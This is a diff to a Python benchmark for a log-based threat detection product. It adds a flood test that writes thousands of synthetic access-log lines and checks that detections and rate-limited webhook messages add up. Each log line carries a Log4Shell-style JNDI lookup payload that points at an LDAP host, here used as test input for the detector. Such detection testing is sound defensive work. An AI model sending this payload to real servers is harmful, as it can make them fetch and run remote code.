@@ -31,6 +31,8 @@ from benchmarks.table import Table, against
 PER_RULE = 45
 #: Seconds that a message may be late because of another channel.
 LATE_S = 5.0
+#: Messages that a channel takes in a minute while much happens, and that minute as the receiver sees it.
+PER_MINUTE, MINUTE_S = 6, 58.0
 RULE = """title: Probe {n}
 id: 00000000-0000-4000-8000-{n:012d}
 status: test
@@ -47,12 +49,14 @@ class Receiver:
 
     def __init__(self, dice: random.Random) -> None:
         self.got: list[tuple[str, bytes]] = []  # key, body
+        self.at_s: list[float] = []  # when each came
         receiver = self
 
         class Handler(BaseHTTPRequestHandler):
             def do_POST(self) -> None:
                 body = self.rfile.read(int(self.headers["content-length"]))
                 time.sleep(dice.random() * 0.03)
+                receiver.at_s.append(time.monotonic())
                 receiver.got.append((self.headers["webhook-id"], body))
                 with contextlib.suppress(OSError):  # whoever sent it may have been killed
                     self.send_response(204)
@@ -201,10 +205,70 @@ def beside_a_hanging_channel(product: Product, receiver: Receiver, incidents: in
     return max(late) <= LATE_S
 
 
+def is_told(product: Product, lines: int) -> bool:
+    """Whether every line is stored and every match is in a message that left."""
+    with contextlib.closing(product.connection()) as connection:
+        events, untold, waiting = connection.execute(
+            "SELECT (SELECT count(*) FROM events), (SELECT count(*) FROM notification_threads WHERE n > told),"
+            " (SELECT count(*) FROM notification_history WHERE status = 'pending')"
+        ).fetchone()
+    return bool(events >= lines and not untold and not waiting)
+
+
+def in_a_flood(product: Product, receiver: Receiver, matches: int) -> bool:
+    """How many messages the shipped rules' matches of one minute make, and whether their counts are all of them.
+
+    Every line is an attempt of one rule's kind, of 200 clients in turn.
+    """
+    prepare(product, receiver, 1)
+    path = os.path.join(product.data, "threatlens.yaml")
+    with open(path) as file:
+        config = json.load(file)
+    config["channels"][0]["max_per_minute"] = PER_MINUTE
+    config["notification_rules"] = [{"name": "all", "channels": ["hook"], "min_severity": 1, "cooldown_minutes": 1}]
+    with open(path, "w") as file:
+        file.write(json.dumps(config))
+    process = start(product, free_port())
+    begun = time.monotonic()
+    try:
+        with open(os.path.join(product.logs, "auth.log"), "w") as log:
+            for first in range(0, matches, matches // 40):
+                now = dt.datetime.now(dt.UTC)
+                log.writelines(
+                    f"203.0.113.{number % 200 + 1} - - [{now:%d/%b/%Y:%H:%M:%S} +0000]"
+                    f' "GET /?x=${{jndi:ldap://198.51.100.7/a{number}}} HTTP/1.1" 404 153 "-" "Mozilla/5.0"\n'
+                    for number in range(first, min(matches, first + matches // 40))
+                )
+                log.flush()
+                time.sleep(1)
+        wait_for("the end", lambda: is_told(product, matches), timeout_s=600, every_s=0.5)
+    finally:
+        kill(process)
+    with contextlib.closing(product.connection()) as connection:
+        (found,) = connection.execute("SELECT count(*) FROM detections").fetchone()
+        (incidents,) = connection.execute("SELECT count(*) FROM incidents").fetchone()
+    told = sum(json.loads(body)["data"]["count"] for _, body in receiver.got)
+    most = max(sum(0 <= other - at < MINUTE_S for other in receiver.at_s) for at in receiver.at_s)
+    table = Table(f"{matches:,} lines that match, in 40 s; told within {time.monotonic() - begun:,.0f} s", "what",
+                  "number", "verdict")  # fmt: skip
+    rows = [
+        ("matches", found, found >= matches),
+        ("lines counted by the messages", told, told == matches),
+        ("incidents", incidents, True),
+        ("messages", len(receiver.got), True),
+        ("of them within one minute, at most", most, most <= PER_MINUTE),
+    ]  # fmt: skip
+    for what, number, good in rows:
+        table.add(what, f"{number:,}", "holds" if good else "missed")
+    table.show()
+    return all(good for *_, good in rows)
+
+
 def main() -> int:
     options = argparse.ArgumentParser(description=__doc__)
     options.add_argument("--incidents", type=int, default=500)
     options.add_argument("--kills", type=int, default=30)
+    options.add_argument("--matches", type=int, default=10_000)
     options.add_argument("--seed", type=int, default=1)
     arguments = options.parse_args()
     dice = random.Random(arguments.seed)
@@ -216,6 +280,10 @@ def main() -> int:
     receiver.got.clear()
     with workshop() as folder:
         good &= beside_a_hanging_channel(Product(folder), receiver, min(21, arguments.incidents))
+    receiver.got.clear()
+    receiver.at_s.clear()
+    with workshop() as folder:
+        good &= in_a_flood(Product(folder), receiver, arguments.matches)
     receiver.close()
     return 0 if good else 1
 
